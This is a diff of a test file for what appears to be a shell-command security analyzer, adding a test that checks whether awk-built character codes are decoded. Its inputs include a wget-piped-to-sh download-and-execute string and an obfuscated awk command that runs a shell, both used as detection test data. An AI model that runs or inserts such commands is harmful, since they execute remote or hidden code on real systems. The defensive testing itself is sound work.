@@ -118,3 +118,10 @@ def test_prompt_expansion_runs_the_substitutions_in_the_value() -> None:
     assert _downloaded("""p='$(wget -qO- https://example.invalid/p | sh)'; echo "${p@P}" """)
     assert not _downloaded("""p='$(wget -qO- https://example.invalid/p | sh)'; echo "${p@Q}" """)
     assert not analyze(r"""p='\\u@\\h \\w'; echo "${p@P}" """).executes
+
+
+def test_awk_text_built_from_character_codes_is_decoded() -> None:
+    r = analyze("""awk 'BEGIN{printf "%c%c -c id", 115, 104}' | bash""")
+    assert any("decoded" in reason for reason in r.opaque_reasons)
+    plain = analyze("""awk '{print "make " $1}' targets.txt | sh""")
+    assert not any("decoded" in reason for reason in plain.opaque_reasons)
